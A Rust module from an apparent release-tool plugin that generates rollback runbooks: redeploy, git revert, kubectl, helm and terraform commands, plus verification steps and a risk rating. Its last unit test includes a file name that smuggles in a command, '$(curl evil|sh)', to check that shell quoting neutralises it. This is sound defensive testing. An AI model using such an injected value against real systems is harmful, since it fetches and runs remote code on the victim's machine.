//! The data of the rollback runbook: what the template receives.
//!
//! Everything is derived from the input: the release's commits and their
//! changed paths, the previous release, the repository, and `[rollback]`.
//! Commands are complete and ready to paste; names that are not configured
//! are `<placeholders>`, and `placeholders` says so.

use std::collections::{BTreeMap, BTreeSet};

use relkit_plugin_sdk::Settings;
use relkit_plugin_sdk::commit::{self, Parsed, Preset};
use relkit_plugin_sdk::forge::Links;
use relkit_plugin_sdk::markdown::escape_html;
use relkit_plugin_sdk::model::forge_name;
use relkit_plugin_sdk::revert;
use relkit_plugin_sdk::short_id;
use relkit_plugin_sdk::types::{ChangeKind, ForgeKind, Release, Repository};
use serde::Serialize;

use crate::classify::{Class, Classifier};

/// `[rollback]` names and checks.
#[derive(Debug, Clone, Default)]
pub struct Config {
    pub preset: Preset,
    pub deployment: Option<String>,
    pub namespace: Option<String>,
    pub helm_release: Option<String>,
    pub terraform_dir: Option<String>,
    pub image: Option<String>,
    pub workflow: Option<String>,
    pub verify: Vec<String>,
    pub health_urls: Vec<String>,
    pub dashboards: Vec<String>,
}

impl Config {
    pub fn from_settings(s: &Settings<'_>) -> Result<Self, String> {
        Ok(Self {
            preset: s.get_or("preset", Preset::default())?,
            deployment: s.get("deployment")?,
            namespace: s.get("namespace")?,
            helm_release: s.get("helm-release")?,
            terraform_dir: s.get("terraform-dir")?,
            image: s.get("image")?,
            workflow: s.get("workflow")?,
            verify: s.get_or("verify", Vec::new())?,
            health_urls: s.get_or("health-urls", Vec::new())?,
            dashboards: s.get_or("dashboards", Vec::new())?,
        })
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct Risk {
    /// `safe`, `caution` or `unsafe`.
    pub level: &'static str,
    /// `Safe`, `Caution`, `Unsafe`.
    pub label: &'static str,
    /// The one sentence under the label.
    pub summary: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct Point {
    pub tag: String,
    pub version: String,
    pub commit_id: String,
    pub short_id: String,
    pub date: String,
    pub url: Option<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct PathEntry {
    pub path: String,
    /// `added`, `modified` or `deleted` (net over the release).
    pub change: &'static str,
}

#[derive(Debug, Clone, Serialize)]
pub struct Item {
    pub short_id: String,
    pub commit_url: Option<String>,
    pub text: String,
}

/// Commands to paste, with a sentence that says what they do.
#[derive(Debug, Clone, Serialize)]
pub struct Block {
    pub intro: String,
    pub commands: Vec<String>,
}

/// One kind of infrastructure the release changed.
#[derive(Debug, Clone, Serialize)]
pub struct Infra {
    /// `kubernetes`, `helm`, `terraform`, `docker`, `ci`.
    pub kind: &'static str,
    /// `Kubernetes`, `Helm`, `Terraform`, `Container image`, `CI configuration`.
    pub title: &'static str,
    pub files: Vec<PathEntry>,
    /// A warning to read before anything else (Terraform state).
    pub warning: Option<String>,
    pub blocks: Vec<Block>,
    pub notes: Vec<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct Steps {
    pub redeploy: u32,
    pub revert: u32,
    pub infrastructure: u32,
    pub verify: u32,
}

#[derive(Debug, Clone, Serialize)]
pub struct Verify {
    pub commands: Vec<String>,
    pub dashboards: Vec<String>,
    /// The generic checklist, used when nothing is configured.
    pub checklist: Vec<String>,
    /// How to confirm the running version is the previous one.
    pub confirm: Vec<String>,
}

#[derive(Debug, Clone, Serialize)]
pub struct RollbackData {
    pub risk: Risk,
    pub release: Point,
    pub previous: Option<Point>,
    /// The pre-release label when rolling back a pre-release.
    pub channel: Option<String>,
    pub forge: &'static str,
    /// `owner/repo` or `group/subgroup/project`.
    pub project: Option<String>,
    pub redeploy: Vec<String>,
    pub redeploy_notes: Vec<String>,
    pub revert: Vec<String>,
    pub has_merges: bool,
    pub commit_count: usize,
    pub migrations: Vec<PathEntry>,
    pub breaking_changes: Vec<Item>,
    /// Reverts of commits that earlier releases shipped.
    pub reverted_releases: Vec<Item>,
    pub has_risks: bool,
    pub kubernetes: Option<Infra>,
    pub helm: Option<Infra>,
    pub terraform: Option<Infra>,
    pub docker: Option<Infra>,
    pub ci: Option<Infra>,
    /// The same, in the order to handle them.
    pub infrastructure: Vec<Infra>,
    pub has_infrastructure: bool,
    /// A checkout of the previous release that infrastructure steps use.
    pub checkout: Vec<String>,
    /// The commands contain `<placeholders>` to fill in.
    pub placeholders: bool,
    pub steps: Steps,
    pub verify: Verify,
}

/// A value as one word of a POSIX shell command: as is when it is plainly
/// safe, else single-quoted. File names come from commits, and the runbook
/// is meant to be pasted into a shell.
pub fn sh(value: &str) -> String {
    let plain = !value.is_empty()
        && value.chars().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '/' | '-' | ':' | '@' | '%' | '+' | '=' | ',')
        });
    if plain { value.to_string() } else { format!("'{}'", value.replace('\'', "'\\''")) }
}

/// The configured value (quoted for the shell), or a visible `<placeholder>`.
fn placeholder_or(value: &Option<String>, name: &str, used: &mut bool) -> String {
    match value {
        Some(v) => sh(v),
        None => {
            *used = true;
            format!("<{name}>")
        }
    }
}

fn change_name(c: ChangeKind) -> &'static str {
    match c {
        ChangeKind::Added => "added",
        ChangeKind::Modified => "modified",
        ChangeKind::Deleted => "deleted",
    }
}

/// The project path of the web URL: `acme/rocket`.
fn project_path(links: &Links<'_>) -> Option<String> {
    let web = links.web()?;
    let base = links.base()?;
    web.strip_prefix(base).map(|p| p.trim_matches('/').to_string()).filter(|p| !p.is_empty())
}

/// How `gh` and `glab` name the repository in `--repo`. Both CLIs send a
/// bare project path to their default host (github.com, gitlab.com, or
/// `GH_HOST` / `GITLAB_HOST`), so another host is named: `gh` documents
/// `[HOST/]OWNER/REPO`; `glab` documents a full URL, and reads
/// `HOST/GROUP/PROJECT` as a group path unless it is logged in to that host.
fn cli_repo(links: &Links<'_>, project: Option<&str>) -> Option<String> {
    let project = project?;
    let base = links.base()?;
    let host = base.split_once("://").map_or(base, |(_, host)| host);
    match links.forge() {
        ForgeKind::Github if host.eq_ignore_ascii_case("github.com") => Some(project.to_string()),
        ForgeKind::Github => Some(format!("{host}/{project}")),
        ForgeKind::Gitlab if host.eq_ignore_ascii_case("gitlab.com") => Some(project.to_string()),
        ForgeKind::Gitlab => Some(format!("{base}/{project}")),
        ForgeKind::Unknown => None,
    }
}

fn parent_dirs(files: &[PathEntry]) -> Vec<String> {
    let dirs: BTreeSet<String> =
        files.iter().map(|f| f.path.rsplit_once('/').map_or(".".to_string(), |(d, _)| d.to_string())).collect();
    dirs.into_iter().collect()
}

pub fn build(release: &Release, repository: &Repository, config: &Config, classifier: &Classifier) -> RollbackData {
    let links = Links::new(repository);
    let project = project_path(&links);
    let mut placeholders = false;

    let parsed: Vec<Parsed> = release.commits.iter().map(|c| commit::parse(&c.message, config.preset)).collect();
    let pairs: Vec<(&str, &Parsed)> = release.commits.iter().zip(&parsed).map(|(c, p)| (c.id.as_str(), p)).collect();
    let cancelled = revert::pair(&pairs, config.preset);

    // Net change per path over the release (oldest commit first).
    let net = relkit_plugin_sdk::net_changes(release.commits.iter().rev(), |_| true);
    let mut by_class: BTreeMap<Class, Vec<PathEntry>> = BTreeMap::new();
    for (path, change) in &net {
        if let Some(class) = classifier.classify(path) {
            by_class.entry(class).or_default().push(PathEntry { path: path.to_string(), change: change_name(*change) });
        }
    }

    let mut breaking_changes = Vec::new();
    let mut reverted_releases = Vec::new();
    for (c, p) in release.commits.iter().zip(&parsed).rev() {
        if cancelled.contains(&c.id) {
            continue;
        }
        for b in &p.breaking {
            breaking_changes.push(Item {
                short_id: short_id(&c.id).to_string(),
                commit_url: links.commit(&c.id),
                text: escape_html(b.text.lines().next().unwrap_or("")),
            });
        }
        if let Some(of) = &p.revert {
            // A re-application names itself (`Reapply "feat: x"`): rolling it
            // back brings the revert back.
            let what = match of.title() {
                Some(title) if !of.reapplies => title,
                _ if of.reapplies => p.header.clone(),
                _ => p.description().to_string(),
            };
            let text = match &of.hash {
                Some(h) => format!("{what} (reverts {})", short_id(h)),
                None => what,
            };
            reverted_releases.push(Item {
                short_id: short_id(&c.id).to_string(),
                commit_url: links.commit(&c.id),
                text: escape_html(&text),
            });
        }
    }

    let release_point = Point {
        tag: release.tag.clone(),
        version: release.version.clone(),
        commit_id: release.commit_id.clone(),
        short_id: short_id(&release.commit_id).to_string(),
        date: release.date.clone(),
        url: links.tag(&release.tag),
    };
    let previous = release.previous.as_ref().map(|t| Point {
        tag: t.name.clone(),
        version: t.version.clone(),
        commit_id: t.commit_id.clone(),
        short_id: short_id(&t.commit_id).to_string(),
        date: t.date.clone(),
        url: links.tag(&t.name),
    });
    let channel = semver::Version::parse(&release.version)
        .ok()
        .filter(|v| !v.pre.is_empty())
        .map(|v| v.pre.as_str().split('.').next().unwrap_or_default().to_string());
    let has_merges = release.commits.iter().any(|c| c.parents.len() > 1);
    let prev_tag = previous.as_ref().map(|p| p.tag.clone());
    let prev_version = previous.as_ref().map(|p| p.version.clone());

    // Redeploy the previous release, the forge's way.
    let mut redeploy = Vec::new();
    let mut redeploy_notes = Vec::new();
    if let Some(prev) = &prev_tag {
        let repo = cli_repo(&links, project.as_deref()).map(|r| format!(" --repo {}", sh(&r))).unwrap_or_default();
        let prev_word = sh(prev);
        match repository.forge {
            ForgeKind::Github => {
                let workflow = placeholder_or(&config.workflow, "deploy-workflow.yml", &mut placeholders);
                redeploy.push(format!("gh workflow run {workflow} --ref {prev_word}{repo}"));
                redeploy_notes.push(format!(
                    "The workflow needs a `workflow_dispatch` trigger. To re-run the run that deployed {prev} instead: \
                     `gh run list --branch {prev_word}{repo}` and `gh run rerun <run-id>{repo}`."
                ));
            }
            ForgeKind::Gitlab => {
                redeploy.push(format!("glab ci run --branch {prev_word}{repo}"));
                // `glab ci retry` retries a job, found by id or by name in a pipeline.
                redeploy_notes.push(format!(
                    "This starts a new pipeline for the tag {prev}; run its deploy job if it is manual. To re-run the \
                     deploy job of the original pipeline instead: `glab ci list --ref {prev_word}{repo}` and \
                     `glab ci retry <deploy-job> --pipeline-id <pipeline-id>{repo}`."
                ));
            }
            ForgeKind::Unknown => {
                redeploy_notes.push(format!("Re-run the deployment of the tag {prev} in your CI system."));
            }
        }
    }

    // Revert the release's commits on the branch.
    let mut revert_commands = Vec::new();
    if let Some(prev) = &prev_tag {
        let tag = &release.tag;
        revert_commands.push("git fetch origin --tags".to_string());
        if has_merges {
            revert_commands.push(format!(
                "git revert --no-commit -m 1 $(git rev-list --first-parent {})",
                sh(&format!("{prev}..{tag}"))
            ));
        } else {
            revert_commands.push(format!("git revert --no-commit {}", sh(&format!("{prev}..{tag}"))));
        }
        revert_commands.push(format!("git commit -m {}", sh(&format!("revert: roll back {tag}"))));
        revert_commands.push("git push origin HEAD".to_string());
    }

    // Infrastructure.
    let worktree = prev_tag.as_ref().map(|p| format!("../rollback-{p}"));
    let under = |dir: &str, path: &str| sh(&format!("{dir}/{path}"));
    let namespace = config.namespace.as_deref().map_or_else(|| "<namespace>".to_string(), sh);
    let namespace_placeholder = config.namespace.is_none();
    let files_of = |class: Class| by_class.get(&class).cloned().unwrap_or_default();
    let mut needs_checkout = false;
    let mut infra = |class: Class, placeholders: &mut bool| -> Option<Infra> {
        let files = files_of(class);
        if files.is_empty() {
            return None;
        }
        let mut blocks = Vec::new();
        let mut notes = Vec::new();
        let mut warning = None;
        let (kind, title) = match class {
            Class::Kubernetes => ("kubernetes", "Kubernetes"),
            Class::Helm => ("helm", "Helm"),
            Class::Terraform => ("terraform", "Terraform"),
            Class::Docker => ("docker", "Container image"),
            Class::Ci => ("ci", "CI configuration"),
            Class::Migration => ("migration", "Database migrations"),
        };
        match class {
            Class::Kubernetes => {
                if config.deployment.is_some() || config.helm_release.is_none() {
                    let d = placeholder_or(&config.deployment, "deployment", placeholders);
                    blocks.push(Block {
                        intro: "Return the Deployment to its previous ReplicaSet:".to_string(),
                        commands: vec![
                            format!("kubectl rollout undo deployment/{d} -n {namespace}"),
                            format!("kubectl rollout status deployment/{d} -n {namespace}"),
                        ],
                    });
                }
                if let (Some(wt), Some(prev)) = (&worktree, &prev_tag) {
                    let added: Vec<String> = files
                        .iter()
                        .filter(|f| f.change == "added")
                        .map(|f| format!("kubectl delete -n {namespace} -f {}", sh(&f.path)))
                        .collect();
                    if !added.is_empty() {
                        blocks.push(Block {
                            intro: format!("Delete what {} added (run this from the current checkout):", release.tag),
                            commands: added,
                        });
                    }
                    let existing: Vec<PathEntry> = files.iter().filter(|f| f.change != "added").cloned().collect();
                    if !existing.is_empty() {
                        needs_checkout = true;
                        blocks.push(Block {
                            intro: format!("Apply the manifests as they were at {prev}:"),
                            commands: parent_dirs(&existing)
                                .iter()
                                .map(|dir| format!("kubectl apply -n {namespace} -f {}", under(wt, dir)))
                                .collect(),
                        });
                    }
                }
            }
            Class::Helm => {
                let r = placeholder_or(&config.helm_release, "helm-release", placeholders);
                blocks.push(Block {
                    intro: "Roll the Helm release back to its previous revision:".to_string(),
                    commands: vec![
                        format!("helm history {r} -n {namespace}"),
                        format!("helm rollback {r} -n {namespace} --wait"),
                    ],
                });
                notes.push(
                    "Without a revision, `helm rollback` returns to the revision before the current one; if there were \
                     deploys in between, name the revision of the previous release from `helm history`."
                        .to_string(),
                );
            }
            Class::Terraform => {
                warning = Some(
                    "Terraform state is not versioned with the code: applying the old configuration destroys what \
                     this release created (and the data in it) and may fail where providers or schemas changed. \
                     Take a state backup first (`terraform state pull > backup.tfstate`) and read the plan before you apply it."
                        .to_string(),
                );
                let dirs = match &config.terraform_dir {
                    Some(d) => vec![d.clone()],
                    None => parent_dirs(&files),
                };
                if let (Some(wt), Some(prev)) = (&worktree, &prev_tag) {
                    needs_checkout = true;
                    blocks.push(Block {
                        intro: format!("Plan and apply the configuration of {prev}:"),
                        commands: dirs
                            .iter()
                            .map(|dir| {
                                format!(
                                    "(cd {} && terraform init && terraform plan -out=rollback.tfplan && terraform apply rollback.tfplan)",
                                    under(wt, dir)
                                )
                            })
                            .collect(),
                    });
                }
            }
            Class::Docker => {
                // Unquoted here: the whole `*=<image>:<version>` argument is quoted below.
                let image = config.image.clone().unwrap_or_else(|| {
                    *placeholders = true;
                    "<image>".to_string()
                });
                let version = prev_version.clone().unwrap_or_else(|| "<previous-version>".to_string());
                let why = format!(
                    "This release changed how the container image is built. Redeploy the image built for the previous \
                     release ({image}:{version}) rather than rebuilding it from today's base images"
                );
                if config.deployment.is_some() || config.image.is_some() {
                    let d = placeholder_or(&config.deployment, "deployment", placeholders);
                    blocks.push(Block {
                        intro: format!("{why}:"),
                        commands: vec![format!(
                            "kubectl set image deployment/{d} {} -n {namespace}",
                            sh(&format!("*={image}:{version}"))
                        )],
                    });
                } else {
                    notes.push(format!("{why}."));
                }
            }
            Class::Ci => {
                let prev = prev_tag.clone().unwrap_or_else(|| "the previous release".to_string());
                notes.push(format!(
                    "A pipeline run for {prev} uses the CI configuration at {prev}; check that the secrets, variables \
                     and runners it expects still exist."
                ));
            }
            Class::Migration => {}
        }
        Some(Infra { kind, title, files, warning, blocks, notes })
    };
    let kubernetes = infra(Class::Kubernetes, &mut placeholders);
    let helm = infra(Class::Helm, &mut placeholders);
    let terraform = infra(Class::Terraform, &mut placeholders);
    let docker = infra(Class::Docker, &mut placeholders);
    let ci = infra(Class::Ci, &mut placeholders);
    let checkout = match (&worktree, &prev_tag) {
        (Some(wt), Some(prev)) if needs_checkout => vec![format!("git worktree add {} {}", sh(wt), sh(prev))],
        _ => Vec::new(),
    };
    let infrastructure: Vec<Infra> =
        [&kubernetes, &helm, &terraform, &docker, &ci].into_iter().flatten().cloned().collect();
    let migrations = files_of(Class::Migration);
    let has_infrastructure =
        kubernetes.is_some() || helm.is_some() || terraform.is_some() || docker.is_some() || ci.is_some();
    let has_risks = !migrations.is_empty() || !breaking_changes.is_empty() || !reverted_releases.is_empty();

    let risk = risk(
        release,
        &migrations,
        &breaking_changes,
        &reverted_releases,
        [
            ("Kubernetes", kubernetes.is_some()),
            ("Helm", helm.is_some()),
            ("Terraform", terraform.is_some()),
            ("container image", docker.is_some()),
            ("CI configuration", ci.is_some()),
        ],
    );

    // Verification.
    let mut commands = config.verify.clone();
    commands.extend(config.health_urls.iter().map(|u| format!("curl -fsS {}", sh(u))));
    let checklist = if commands.is_empty() && config.dashboards.is_empty() {
        vec![
            "The service's health endpoint answers 200 (set `[rollback] health-urls` to list them here).".to_string(),
            format!("Error rate and latency are back to where they were before {}.", release.tag),
            "SLO dashboards show no ongoing error-budget burn (set `[rollback] dashboards`).".to_string(),
            "The logs show no new errors since the rollback.".to_string(),
        ]
    } else {
        Vec::new()
    };
    let mut confirm = Vec::new();
    if let Some(v) = &prev_version {
        match (&config.deployment, kubernetes.is_some() || docker.is_some() || config.deployment.is_some()) {
            (Some(d), _) => confirm.push(format!(
                "kubectl get deployment/{} -n {namespace} -o jsonpath='{{.spec.template.spec.containers[*].image}}'  # expect {v}",
                sh(d)
            )),
            (None, true) => {
                placeholders = true;
                confirm.push(format!(
                    "kubectl get deployment/<deployment> -n {namespace} -o jsonpath='{{.spec.template.spec.containers[*].image}}'  # expect {v}"
                ));
            }
            (None, false) => {}
        }
    }

    let uses_namespace =
        infrastructure.iter().flat_map(|i| &i.blocks).flat_map(|b| &b.commands).any(|c| c.contains("<namespace>"))
            || confirm.iter().any(|c| c.contains("<namespace>"));
    placeholders |= namespace_placeholder && uses_namespace;

    // Steps are numbered in the order to follow; absent ones are skipped.
    let mut step = 0;
    let mut next_step = |present: bool| {
        if present {
            step += 1;
            step
        } else {
            0
        }
    };
    let steps = Steps {
        redeploy: next_step(previous.is_some()),
        revert: next_step(previous.is_some()),
        infrastructure: next_step(has_infrastructure),
        verify: next_step(true),
    };
    RollbackData {
        risk,
        release: release_point,
        previous,
        channel,
        forge: forge_name(repository.forge),
        project,
        redeploy,
        redeploy_notes,
        revert: revert_commands,
        has_merges,
        commit_count: release.commits.len(),
        migrations,
        breaking_changes,
        reverted_releases,
        has_risks,
        kubernetes,
        helm,
        terraform,
        docker,
        ci,
        infrastructure,
        has_infrastructure,
        checkout,
        placeholders,
        steps,
        verify: Verify { commands, dashboards: config.dashboards.clone(), checklist, confirm },
    }
}

fn risk(
    release: &Release,
    migrations: &[PathEntry],
    breaking: &[Item],
    reverts: &[Item],
    infra: [(&str, bool); 5],
) -> Risk {
    let tag = &release.tag;
    if !migrations.is_empty() {
        let n = migrations.len();
        let files = if n == 1 { "1 migration file".to_string() } else { format!("{n} migration files") };
        return Risk {
            level: "unsafe",
            label: "Unsafe",
            summary: format!(
                "{tag} changes the database ({files}); rolling back the code will not undo that, so deal with the data first."
            ),
        };
    }
    let touched: Vec<&str> = infra.iter().filter(|(_, on)| *on).map(|(name, _)| *name).collect();
    let mut reasons = Vec::new();
    if !touched.is_empty() {
        reasons.push(format!("changes infrastructure ({})", touched.join(", ")));
    }
    match breaking.len() {
        0 => {}
        1 => reasons.push("has a breaking change that consumers may already depend on".to_string()),
        n => reasons.push(format!("has {n} breaking changes that consumers may already depend on")),
    }
    if !reverts.is_empty() {
        reasons.push("reverts changes of earlier releases, which a rollback brings back".to_string());
    }
    if reasons.is_empty() {
        return Risk {
            level: "safe",
            label: "Safe",
            summary: "code-only release, no migrations, no infrastructure changes.".to_string(),
        };
    }
    let joined = match reasons.len() {
        1 => reasons.remove(0),
        _ => {
            let last = reasons.pop().unwrap_or_default();
            format!("{} and {last}", reasons.join(", "))
        }
    };
    Risk { level: "caution", label: "Caution", summary: format!("{tag} {joined}; follow the steps in order.") }
}

#[cfg(test)]
mod tests {
    use relkit_plugin_sdk::Settings;
    use relkit_plugin_sdk::types::{Commit, ForgeKind, Person, Release, Repository, Tag};

    use super::{Classifier, Config, build, sh};

    fn commit(key: &str, message: &str) -> Commit {
        Commit {
            id: key.repeat(40 / key.len()),
            message: message.to_string(),
            author: Person { name: "Ada".into(), email: "ada@example.com".into() },
            time: 0,
            parents: vec![],
            changed_paths: vec![],
        }
    }

    fn items(commits: Vec<Commit>) -> (Vec<String>, Vec<String>) {
        let release = Release {
            version: "2.0.0".into(),
            tag: "v2.0.0".into(),
            commit_id: "f".repeat(40),
            date: "2026-11-29".into(),
            previous: None,
            commits,
        };
        let repository = Repository { remote_url: None, forge: ForgeKind::Unknown, web_url: None };
        let settings = Settings::new(&[]);
        let classifier = Classifier::from_settings(&settings).unwrap_or_else(|e| panic!("{e}"));
        let config = Config::from_settings(&settings).unwrap_or_else(|e| panic!("{e}"));
        let d = build(&release, &repository, &config, &classifier);
        let texts = |items: &[super::Item]| items.iter().map(|i| i.text.clone()).collect();
        (texts(&d.breaking_changes), texts(&d.reverted_releases))
    }

    #[test]
    fn commit_text_is_escaped_and_reverts_read_git_s_wording() {
        let (breaking, reverted) = items(vec![
            commit("c", "Reapply \"feat: x\"\n\nThis reverts commit 0123456789."),
            commit("b", "Revert \"fix(ui): keep <details> open\" (#123)\n\nThis reverts commit 9876543210."),
            commit("a", "feat!: drop <T> & `Vec<T>`"),
        ]);
        assert_eq!(breaking, ["drop &lt;T&gt; & `Vec<T>`"]);
        assert_eq!(
            reverted,
            ["fix(ui): keep &lt;details&gt; open (#123) (reverts 9876543)", "Reapply \"feat: x\" (reverts 0123456)"]
        );
    }

    /// The redeploy commands and the `gh` / `glab` commands quoted in its notes.
    fn redeploy(forge: ForgeKind, web_url: &str) -> Vec<String> {
        let release = Release {
            version: "1.4.1".into(),
            tag: "v1.4.1".into(),
            commit_id: "f".repeat(40),
            date: "2026-11-29".into(),
            previous: Some(Tag {
                name: "v1.4.0".into(),
                version: "1.4.0".into(),
                commit_id: "e".repeat(40),
                time: 0,
                date: "2026-10-30".into(),
            }),
            commits: vec![commit("a", "fix: x")],
        };
        let repository = Repository { remote_url: None, forge, web_url: Some(web_url.into()) };
        let settings = Settings::new(&[]);
        let classifier = Classifier::from_settings(&settings).unwrap_or_else(|e| panic!("{e}"));
        let config = Config::from_settings(&settings).unwrap_or_else(|e| panic!("{e}"));
        let d = build(&release, &repository, &config, &classifier);
        let quoted = d
            .redeploy_notes
            .iter()
            .flat_map(|n| n.split('`').skip(1).step_by(2).map(str::to_string))
            .filter(|q| q.starts_with("gh ") || q.starts_with("glab "));
        d.redeploy.iter().cloned().chain(quoted).collect()
    }

    #[test]
    fn glab_names_a_self_hosted_gitlab() {
        let commands = redeploy(ForgeKind::Gitlab, "https://gitlab.example.com/platform/team/rocket");
        assert_eq!(
            commands,
            [
                "glab ci run --branch v1.4.0 --repo https://gitlab.example.com/platform/team/rocket",
                "glab ci list --ref v1.4.0 --repo https://gitlab.example.com/platform/team/rocket",
                "glab ci retry <deploy-job> --pipeline-id <pipeline-id> --repo https://gitlab.example.com/platform/team/rocket",
            ]
        );
        // a port and plain http stay in the URL
        for web in ["https://gitlab.example.com:8443/group/project", "http://gitlab.internal/group/project"] {
            let commands = redeploy(ForgeKind::Gitlab, web);
            assert!(commands.iter().all(|c| c.ends_with(&format!(" --repo {web}"))), "{commands:?}");
        }
        // gitlab.com is glab's default host: the project path is enough
        let commands = redeploy(ForgeKind::Gitlab, "https://gitlab.com/group/sub/project/");
        assert_eq!(commands[0], "glab ci run --branch v1.4.0 --repo group/sub/project");
        assert!(commands.iter().all(|c| c.ends_with(" --repo group/sub/project")), "{commands:?}");
        let commands = redeploy(ForgeKind::Gitlab, "https://GitLab.com/group/project");
        assert!(commands.iter().all(|c| c.ends_with(" --repo group/project")), "{commands:?}");
    }

    #[test]
    fn gh_names_a_github_enterprise_host() {
        let commands = redeploy(ForgeKind::Github, "https://github.example.com/acme/rocket");
        assert_eq!(
            commands,
            [
                "gh workflow run <deploy-workflow.yml> --ref v1.4.0 --repo github.example.com/acme/rocket",
                "gh run list --branch v1.4.0 --repo github.example.com/acme/rocket",
                "gh run rerun <run-id> --repo github.example.com/acme/rocket",
            ]
        );
        let commands = redeploy(ForgeKind::Github, "https://acme.ghe.com/acme/rocket");
        assert!(commands.iter().all(|c| c.ends_with(" --repo acme.ghe.com/acme/rocket")), "{commands:?}");
        // github.com is gh's default host
        let commands = redeploy(ForgeKind::Github, "https://github.com/acme/rocket");
        assert!(commands.iter().all(|c| c.ends_with(" --repo acme/rocket")), "{commands:?}");
        assert_eq!(commands.len(), 3);
    }

    #[test]
    fn shell_words_are_quoted_when_needed() {
        assert_eq!(sh("deploy/k8s/app.yaml"), "deploy/k8s/app.yaml");
        assert_eq!(sh("k8s/my app.yaml"), "'k8s/my app.yaml'");
        assert_eq!(sh("k8s/$(curl evil|sh).yaml"), "'k8s/$(curl evil|sh).yaml'");
        assert_eq!(sh("it's"), "'it'\\''s'");
        assert_eq!(sh("*=img:1.0"), "'*=img:1.0'");
    }
}
